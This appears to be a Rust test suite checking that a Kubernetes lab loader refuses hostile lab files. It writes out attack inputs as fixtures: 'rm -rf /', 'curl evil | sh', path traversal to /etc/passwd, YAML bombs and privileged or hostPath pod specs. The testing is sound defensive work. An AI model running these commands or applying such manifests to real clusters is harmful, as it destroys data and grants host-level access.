//! Lab files that mean harm: each ends as problems (or as a lab that nobody runs without trust), in bounded time, and
//! nothing is applied or run by loading it.
#![allow(missing_docs, clippy::unwrap_used, clippy::print_stdout)]

use std::path::Path;
use std::process::{Command, Stdio};
use std::sync::mpsc;
use std::time::{Duration, Instant};

use jotasu::files::Tree;
use jotasu::lab::{self, Action, Lab};
use jotasu::problem::{Problem, Severity};
use proptest::prelude::*;

/// However slow the machine: what takes longer would take for ever.
const WATCHDOG: Duration = Duration::from_secs(60);

/// A lab that is in order, to be spoiled.
const GOOD: &str = "\
apiVersion: jotasu.dev/v1alpha1
kind: Lab
metadata: {name: lab}
spec:
  title: 실습
  minutes: 5
  owns: {namespaces: [shop]}
  setup: [{apply: setup/a.yaml}]
  checks:
  - name: web
    title: 웹이 있음
    resource: {apiVersion: apps/v1, kind: Deployment, namespace: shop, name: web}
    match: {spec: {replicas: 3}}
    cel:
    - expr: object.spec.template.spec.containers.all(c, has(c.image))
      message: 이미지가 있어야 해요.
";
const SETUP: &str = "{apiVersion: v1, kind: ConfigMap, metadata: {name: a, namespace: shop}}\n";
const SOLUTION: &str = "\
turns: [web]
do:
- apply:
    apiVersion: apps/v1
    kind: Deployment
    metadata: {name: web, namespace: shop}
    spec:
      replicas: 3
      selector: {matchLabels: {app: web}}
      template: {metadata: {labels: {app: web}}, spec: {containers: [{name: web, image: 'nginx:1.29'}]}}
";
const FILES: [(&str, &str); 4] =
    [("lab.yaml", GOOD), ("setup/a.yaml", SETUP), ("solution/01-web.yaml", SOLUTION), ("images.txt", "nginx:1.29\n")];

/// The good lab with some files replaced or added.
fn write(folder: &Path, files: &[(&str, Vec<u8>)]) {
    let kept = FILES.iter().map(|(name, text)| (*name, text.as_bytes().to_vec()));
    for (name, bytes) in kept.chain(files.iter().cloned()) {
        let path = folder.join("lab").join(name);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, bytes).unwrap();
    }
}

/// Loads with the watchdog beside it: it must end, and not panic.
fn load(folder: &Path) -> (Option<Lab>, Vec<Problem>) {
    let (send, loaded) = mpsc::channel();
    let labs = Tree::Folder(folder.to_owned());
    std::thread::spawn(move || drop(send.send(lab::load(&labs, "lab"))));
    loaded.recv_timeout(WATCHDOG).unwrap()
}

/// What is said of such a lab; it must not load.
#[track_caller]
fn refused(attack: &str, files: &[(&str, String)], words: &str) {
    let folder = tempfile::tempdir().unwrap();
    let files: Vec<(&str, Vec<u8>)> = files.iter().map(|(name, text)| (*name, text.clone().into_bytes())).collect();
    write(folder.path(), &files);
    refused_as_it_is(attack, folder.path(), words);
}

#[track_caller]
fn refused_as_it_is(attack: &str, folder: &Path, words: &str) {
    let since = Instant::now();
    let (lab, problems) = load(folder);
    println!("{attack}: {} problems in {:?}", problems.len(), since.elapsed());
    let said: Vec<String> = problems.iter().take(5).map(ToString::to_string).collect();
    assert!(lab.is_none(), "{attack}: it loads");
    assert!(problems.iter().any(|problem| problem.to_string().contains(words)), "{attack}: {said:#?}");
    assert!(problems.len() < 10_000, "{attack}: {} problems", problems.len());
}

/// The good lab with one piece of a file replaced.
#[track_caller]
fn spoiled(attack: &str, file: &str, from: &str, to: &str, words: &str) {
    let (name, text) = FILES.iter().find(|(name, _)| *name == file).unwrap();
    let spoiled = text.replace(from, to);
    assert_ne!(spoiled, *text, "{attack}");
    refused(attack, &[(name, spoiled)], words);
}

/// An object in the setup instead of the ConfigMap.
#[track_caller]
fn set_up(attack: &str, object: &str, words: &str) {
    refused(attack, &[("setup/a.yaml", object.to_owned())], words);
}

#[test]
fn the_good_lab_loads() {
    let folder = tempfile::tempdir().unwrap();
    write(folder.path(), &[]);
    let (lab, problems) = load(folder.path());
    assert!(lab.is_some(), "{problems:#?}");
}

#[test]
fn commands_are_words_and_never_a_line_for_a_shell() {
    let exec = |argv: &str| {
        format!(
            "turns: [web]\ndo:\n- exec: {{target: {{apiVersion: v1, kind: Pod, namespace: shop, name: p}}, container: c, argv: {argv}}}\n"
        )
    };
    let step = |argv: &str| vec![("solution/01-web.yaml", exec(argv))];
    refused("a shell line as argv", &step("rm -rf / --no-preserve-root"), "목록이 와야 하는데");
    refused("no argv", &step("[]"), "argv");
    refused("a map as argv", &step("{run: reboot}"), "목록이 와야 하는데");
    spoiled(
        "an action that runs a script",
        "lab.yaml",
        "apply: setup/a.yaml",
        "run: scripts/a.sh",
        "모르는 동작이에요: run",
    );
    spoiled(
        "a check that runs a script",
        "lab.yaml",
        "    match:",
        "    script: curl evil | sh\n    match:",
        "모르는 필드예요: script",
    );
}

#[test]
fn no_path_leads_out_of_the_folder() {
    let apply = |path: &str| vec![("lab.yaml", GOOD.replace("apply: setup/a.yaml", &format!("apply: {path}")))];
    for path in ["../../../etc/passwd", "/etc/passwd", "setup/../../secret.yaml", "\"setup/\\0.yaml\"", "C:\\\\secret"]
    {
        refused(&format!("apply {path}"), &apply(path), "lab/lab.yaml");
    }
    let config = |path: &str| GOOD.replace("  owns:", &format!("  cluster: {{config: {path}}}\n  owns:"));
    refused("a kind configuration of somebody else", &[("lab.yaml", config("/etc/hosts"))], "lab 폴더에 없는 파일");
    // What lies outside is not read, however the link to it is named.
    let folder = tempfile::tempdir().unwrap();
    let labs = folder.path().join("labs");
    write(&labs, &[]);
    std::fs::write(folder.path().join("secret.yaml"), SECRET).unwrap();
    std::fs::write(labs.join("secret.yaml"), SECRET).unwrap();
    let setup = labs.join("lab/setup");
    std::os::unix::fs::symlink("../../../secret.yaml", setup.join("b.yaml")).unwrap();
    std::os::unix::fs::symlink("../../secret.yaml", setup.join("c.yaml")).unwrap();
    std::os::unix::fs::symlink("/dev/zero", setup.join("d.yaml")).unwrap();
    std::os::unix::fs::symlink("/", labs.join("lab/wrong")).unwrap();
    for (apply, loads) in [
        ("setup/*.yaml", true),
        ("setup/a.yaml", true),
        ("setup/b.yaml", false),
        ("setup/c.yaml", false),
        ("setup/d.yaml", false),
    ] {
        let text = GOOD.replace("apply: setup/a.yaml", &format!("apply: {apply}"));
        std::fs::write(labs.join("lab/lab.yaml"), text).unwrap();
        let (lab, problems) = load(&labs);
        let said = format!("{problems:#?}");
        assert_eq!((lab.is_some(), problems.is_empty()), (loads, loads), "{apply}: {said}");
        assert!(lab.is_none_or(|lab| applied(&lab) == ["a", "web"]), "{apply}");
        assert!(!said.contains("outsider"), "{apply}: {said}");
    }
}

/// A manifest that is not the lab's.
const SECRET: &str = "{apiVersion: v1, kind: ConfigMap, metadata: {name: outsider, namespace: shop}}\n";

/// The names of all that a lab would apply.
fn applied(lab: &Lab) -> Vec<&str> {
    let objects = lab.actions().filter_map(|action| match action {
        Action::Apply(objects) => Some(objects),
        _ => None,
    });
    objects.flatten().filter_map(|object| object["metadata"]["name"].as_str()).collect()
}

/// Files that are small, or large, and would be far larger: what they are, which file, its text.
fn bombs() -> Vec<(&'static str, &'static str, String)> {
    let mut laughs = "a0: &a0 [x, x, x, x, x, x, x, x, x, x]\n".to_owned();
    for n in 1..12 {
        let many = vec![format!("*a{}", n - 1); 10].join(", ");
        laughs += &format!("a{n}: &a{n} [{many}]\n");
    }
    let params =
        |text: &str| GOOD.replace("  owns:", &format!("  params:\n    {}\n  owns:", text.replace('\n', "\n    ")));
    vec![
        ("a billion laughs", "lab.yaml", params(&laughs)),
        ("a thousand laughs in the setup", "setup/a.yaml", laughs),
        ("ten thousand brackets", "setup/a.yaml", "[".repeat(10_000)),
        ("ten thousand indents", "setup/a.yaml", (0..10_000).map(|n| format!("{}a:\n", " ".repeat(n % 900))).collect()),
        ("a million keys", "setup/a.yaml", (0..1_000_000).map(|n| format!("k{n}: 1\n")).collect()),
        ("a hundred thousand documents", "setup/a.yaml", "---\na: 1\n".repeat(100_000)),
        ("an alias of itself", "setup/a.yaml", "&a [*a]\n".into()),
        ("a file larger than any", "setup/a.yaml", "# x\n".repeat(5 << 20)),
        ("bytes that are no text", "setup/a.yaml", "\u{0}\u{1}\u{feff}%TAG ! !\n!!binary |\n".into()),
    ]
}

/// Ten megabytes of one text in a manifest.
fn large() -> String {
    let text = "y".repeat(10 << 20);
    format!("{{apiVersion: v1, kind: ConfigMap, metadata: {{name: a, namespace: shop}}, data: {{x: '{text}'}}}}\n")
}

/// Thousands of checks.
fn many() -> String {
    let check = |n: usize| {
        format!(
            "  - name: c{n}\n    title: 확인 {n}\n    needs: [c{}]\n    resource: {{kind: ConfigMap, namespace: shop, name: c{n}}}\n",
            n.saturating_sub(1)
        )
    };
    let checks: String = (0..5_000).map(check).collect();
    format!("{GOOD}{checks}")
}

#[test]
fn yaml_bombs_burst_in_the_budget() {
    for (attack, file, text) in bombs() {
        refused(attack, &[(file, text)], &format!("lab/{file}"));
    }
}

/// What the program may take for a lab, whatever is in it, in MiB: some times what it takes for a small one.
#[cfg(target_os = "linux")]
const MEMORY: u64 = 192;

#[test]
#[cfg(target_os = "linux")]
fn whatever_is_in_a_lab_the_program_takes_bounded_memory() {
    let more = [("ten megabytes", "setup/a.yaml", large()), ("five thousand checks", "lab.yaml", many())];
    for (attack, file, text) in bombs().into_iter().chain(more) {
        let folder = tempfile::tempdir().unwrap();
        let labs = folder.path().join("labs");
        write(&labs, &[(file, text.into_bytes())]);
        std::fs::create_dir(folder.path().join("course")).unwrap();
        std::fs::write(folder.path().join("course/README.md"), "# 과정\n").unwrap();
        let said = std::fs::File::create(folder.path().join("said")).unwrap();
        let mut program = Command::new(env!("CARGO_BIN_EXE_jotasu"));
        program.arg("--home").arg(folder.path().join("home")).arg("--labs").arg(&labs);
        program.args(["author", "check"]).arg(folder.path().join("course"));
        let program = program.stdin(Stdio::null()).stdout(said).stderr(Stdio::null()).spawn().unwrap();
        let most = memory(program);
        let said = std::fs::read_to_string(folder.path().join("said")).unwrap();
        assert!(said.contains("lab/lab.yaml"), "{attack}: the lab is read: {said}");
        println!("{attack}: {most} MiB");
        assert!((1..MEMORY).contains(&most), "{attack}: {most} MiB");
    }
}

/// The most memory a program had until it ended, in MiB, as the kernel counts it.
#[cfg(target_os = "linux")]
fn memory(mut program: std::process::Child) -> u64 {
    let since = Instant::now();
    let mut most = 0;
    while program.try_wait().unwrap().is_none() {
        let status = std::fs::read_to_string(format!("/proc/{}/status", program.id())).unwrap_or_default();
        let peak = status.lines().find_map(|line| line.strip_prefix("VmHWM:")?.trim().split(' ').next()?.parse().ok());
        most = peak.unwrap_or(0).max(most);
        let late = since.elapsed() > WATCHDOG;
        if late {
            program.kill().unwrap();
        }
        assert!(!late, "it does not end");
        std::thread::sleep(Duration::from_millis(1));
    }
    most >> 10
}

#[test]
fn expressions_stay_within_their_caps() {
    let cel = |expr: &str| {
        let expr = serde_json::to_string(expr).unwrap();
        vec![("lab.yaml", GOOD.replace("object.spec.template.spec.containers.all(c, has(c.image))", &expr))]
    };
    let nested = (0..8).fold("true".to_owned(), |inner, n| format!("objects.all(x{n}, {inner})"));
    refused("comprehensions in comprehensions", &cel(&nested), "겹까지");
    refused("a long expression", &cel(&"object.a == 'x' || ".repeat(10_000)), "너무 길어요");
    refused("a deep expression", &cel(&format!("{}true{}", "(".repeat(500), ")".repeat(500))), "괄호가 너무 깊어요");
    refused("a large expression", &cel(&["1"; 990].join("+")), "식이");
    refused("a function that nobody has", &cel("object.spec.exec('reboot')"), "모르는 함수예요: exec");
    refused("a name that nobody has", &cel("env.HOME == '/root'"), "모르는 이름이에요: env");
    let regex = |pattern: &str| {
        vec![("lab.yaml", GOOD.replace("{replicas: 3}", &format!("{{image: {{$regex: '{pattern}'}}}}")))]
    };
    refused("a regular expression of gigabytes", &regex("(((a{1000}){1000}){1000}){1000}"), "정규식");
}

#[test]
fn powers_are_declared_or_refused() {
    let pod =
        |spec: &str| format!("{{apiVersion: v1, kind: Pod, metadata: {{name: p, namespace: shop}}, spec: {spec}}}\n");
    let container = "{name: c, image: 'nginx:1.29'}";
    for (power, spec) in [
        (
            "privileged",
            "{containers: [{name: c, image: 'nginx:1.29', securityContext: {privileged: true}}]}".to_owned(),
        ),
        ("hostPath", format!("{{containers: [{container}], volumes: [{{name: root, hostPath: {{path: /}}}}]}}")),
        ("hostPID", format!("{{hostPID: true, containers: [{container}]}}")),
        ("hostIPC", format!("{{hostIPC: true, containers: [{container}]}}")),
        ("hostNetwork", format!("{{hostNetwork: true, containers: [{container}]}}")),
    ] {
        set_up(power, &pod(&spec), &format!("밝히지 않은 권한을 써요: {power}"));
    }
    for (api, kind) in [
        ("admissionregistration.k8s.io/v1", "ValidatingWebhookConfiguration"),
        ("admissionregistration.k8s.io/v1", "MutatingWebhookConfiguration"),
        ("apiregistration.k8s.io/v1", "APIService"),
        ("rbac.authorization.k8s.io/v1", "ClusterRoleBinding"),
    ] {
        let object = format!("{{apiVersion: {api}, kind: {kind}, metadata: {{name: shop-x}}}}\n");
        // It does not help to say that it is the lab's own.
        let owned = format!("{{namespaces: [shop], objects: [{{apiVersion: {api}, kind: {kind}, prefix: shop-}}]}}");
        let files = [("lab.yaml", GOOD.replace("{namespaces: [shop]}", &owned)), ("setup/a.yaml", object)];
        refused(kind, &files, &format!("밝히지 않은 권한을 써요: {kind}"));
    }
    let list = pod(&format!("{{hostPID: true, containers: [{container}]}}"));
    set_up("a power within a List", &format!("{{apiVersion: v1, kind: List, items: [{}]}}\n", list.trim()), "hostPID");
    let patch = "turns: [web]\ndo:\n- patch:\n    target: {apiVersion: apps/v1, kind: Deployment, namespace: shop, name: web}\n    type: merge\n    body: {spec: {template: {spec: {hostPID: true}}}}\n";
    refused("a power within a patch", &[("solution/01-web.yaml", patch.into())], "밝히지 않은 권한을 써요: hostPID");
    let operation = |operation: &str| {
        let patch = format!(
            "turns: [web]\ndo:\n- patch:\n    target: {{apiVersion: apps/v1, kind: Deployment, namespace: shop, name: web}}\n    type: json\n    body: [{operation}]\n"
        );
        vec![("solution/01-web.yaml", patch)]
    };
    for (attack, power, text) in [
        ("a path that ends in a power", "hostNetwork", "{op: add, path: /spec/template/spec/hostNetwork, value: true}"),
        (
            "a path into a container",
            "privileged",
            "{op: replace, path: /spec/template/spec/containers/0/securityContext/privileged, value: true}",
        ),
        (
            "a volume at the end of a list",
            "hostPath",
            "{op: add, path: /spec/template/spec/volumes/-, value: {name: root, hostPath: {path: /}}}",
        ),
        ("the path of a volume", "hostPath", "{op: add, path: /spec/template/spec/volumes/0/hostPath/path, value: /}"),
        ("a value below a path", "hostPID", "{op: add, path: /spec/template, value: {spec: {hostPID: true}}}"),
        (
            "a copy to a power",
            "hostIPC",
            "{op: copy, from: /spec/template/spec/shareProcessNamespace, path: /spec/template/spec/hostIPC}",
        ),
        (
            "a move from a power",
            "hostPath",
            "{op: move, from: /spec/template/spec/volumes/0/hostPath, path: /spec/template/spec/volumes/1/x}",
        ),
    ] {
        refused(attack, &operation(text), &format!("밝히지 않은 권한을 써요: {power}"));
    }
}

#[test]
fn what_is_the_clusters_is_not_the_labs() {
    for namespace in ["kube-system", "kube-public", "kube-node-lease", "default", "jotasu-system"] {
        spoiled(namespace, "lab.yaml", "[shop]", &format!("[shop, {namespace}]"), "가질 수 없는 namespace예요");
    }
    set_up(
        "an object in kube-system",
        "{apiVersion: v1, kind: ConfigMap, metadata: {name: a, namespace: kube-system}}\n",
        "lab/setup/a.yaml",
    );
    set_up(
        "an object in a namespace of nobody",
        "{apiVersion: v1, kind: ConfigMap, metadata: {name: a, namespace: bank}}\n",
        "lab/setup/a.yaml",
    );
    set_up(
        "a ClusterRole",
        "{apiVersion: rbac.authorization.k8s.io/v1, kind: ClusterRole, metadata: {name: all}}\n",
        "lab/setup/a.yaml",
    );
    set_up("a Node", "{apiVersion: v1, kind: Node, metadata: {name: jotasu-worker}}\n", "lab/setup/a.yaml");
    spoiled(
        "Nodes as owned objects",
        "lab.yaml",
        "{namespaces: [shop]}",
        "{namespaces: [shop], objects: [{kind: Node, prefix: jotasu}]}",
        "objects에 적을 수 없는 kind",
    );
    spoiled("a lab of another name", "lab.yaml", "{name: lab}", "{name: ../other}", "이름이 폴더 이름과 달라요");
    let other = "turns: [web]\ndo:\n- delete: {target: {apiVersion: v1, kind: Namespace, name: kube-system}}\n";
    refused("a solution that deletes kube-system", &[("solution/01-web.yaml", other.into())], "solution/01-web.yaml");
    let label = "turns: [web]\ndo:\n- label: {node: 'worker:0', set: {node-role.kubernetes.io/control-plane: ''}}\n";
    refused("a label of somebody else", &[("solution/01-web.yaml", label.into())], "solution/01-web.yaml");
}

#[test]
fn many_and_large_things_take_bounded_time() {
    // Ten megabytes are read and end as what they are: a lab that no server would take, or problems.
    let folder = tempfile::tempdir().unwrap();
    write(folder.path(), &[("setup/a.yaml", large().into_bytes())]);
    let (lab, problems) = load(folder.path());
    assert_eq!(lab.is_some(), problems.iter().all(|problem| problem.severity != Severity::Error), "{problems:#?}");
    // Thousands of checks: each with its solution or each a problem.
    let folder = tempfile::tempdir().unwrap();
    write(folder.path(), &[("lab.yaml", many().into_bytes())]);
    let since = Instant::now();
    let (lab, problems) = load(folder.path());
    println!("5000 checks: {} problems in {:?}", problems.len(), since.elapsed());
    assert!(lab.is_none() && !problems.is_empty());
    // Thousands of files.
    let folder = tempfile::tempdir().unwrap();
    let files: Vec<(String, Vec<u8>)> =
        (0..3_000).map(|n| (format!("wrong/w{n}.yaml"), b"after: 1\nred: [web]\n".to_vec())).collect();
    write(folder.path(), &files.iter().map(|(name, bytes)| (name.as_str(), bytes.clone())).collect::<Vec<_>>());
    assert!(load(folder.path()).0.is_none());
}

#[test]
fn nothing_is_applied_or_run_without_trust() {
    let folder = tempfile::tempdir().unwrap();
    let declared = GOOD.replace("  owns:", "  requires: {power: [hostPID]}\n  owns:");
    let pod = "{apiVersion: v1, kind: Pod, metadata: {name: a, namespace: shop}, spec: {hostPID: true, containers: [{name: c, image: 'nginx:1.29'}]}}\n";
    write(&folder.path().join("labs"), &[("lab.yaml", declared.into_bytes()), ("setup/a.yaml", pod.into())]);
    let kubeconfig = folder.path().join("kubeconfig");
    std::fs::write(&kubeconfig, "{}").unwrap();
    for arguments in [&["lab", "start", "lab", "--yes"][..], &["author", "test", "lab"]] {
        let mut program = Command::new(env!("CARGO_BIN_EXE_jotasu"));
        program.arg("--home").arg(folder.path().join("home")).arg("--kubeconfig").arg(&kubeconfig);
        program.arg("--labs").arg(folder.path().join("labs")).args(arguments).stdin(Stdio::null());
        let output = program.output().unwrap();
        let said = String::from_utf8_lossy(&output.stderr).into_owned();
        assert_eq!(output.status.code(), Some(2), "{arguments:?}: {said}");
        assert!(said.contains("--trust"), "{arguments:?}: {said}");
    }
}

/// A folder of a lab with one file of these bytes.
fn loads(file: &str, bytes: Vec<u8>) -> Result<(), TestCaseError> {
    let folder = tempfile::tempdir().unwrap();
    write(folder.path(), &[(file, bytes)]);
    let (lab, problems) = load(folder.path());
    let errors = problems.iter().filter(|problem| problem.severity == Severity::Error).count();
    prop_assert_eq!(lab.is_none(), errors > 0, "a lab or problems: {:?}", problems);
    for problem in &problems {
        prop_assert!(!problem.message.is_empty());
    }
    Ok(())
}

proptest! {
    #![proptest_config(ProptestConfig { failure_persistence: None, ..ProptestConfig::with_cases(256) })]

    #[test]
    fn whatever_the_bytes_it_is_a_lab_or_problems(bytes in prop::collection::vec(any::<u8>(), 0..512), file in 0..4_usize) {
        loads(FILES[file].0, bytes)?;
    }

    #[test]
    fn whatever_is_changed_in_a_lab_it_is_a_lab_or_problems(
        file in 0..3_usize,
        cuts in prop::collection::vec((any::<prop::sample::Index>(), 0..12_usize, "[ -~가-힣\\n{}\\[\\]:&*!|>'\"%@`-]{0,8}"), 1..4),
    ) {
        let (name, text) = FILES[file];
        let mut text: Vec<char> = text.chars().collect();
        for (at, length, new) in cuts {
            let at = at.index(text.len().max(1)).min(text.len());
            let end = (at + length).min(text.len());
            text.splice(at..end, new.chars());
        }
        loads(name, text.into_iter().collect::<String>().into_bytes())?;
    }

    #[test]
    fn lines_in_another_order_are_a_lab_or_problems(file in 0..3_usize, order in prop::collection::vec(any::<prop::sample::Index>(), 1..24)) {
        let (name, text) = FILES[file];
        let lines: Vec<&str> = text.lines().collect();
        let text: String = order.iter().map(|line| format!("{}\n", line.get(&lines))).collect();
        loads(name, text.into_bytes())?;
    }
}
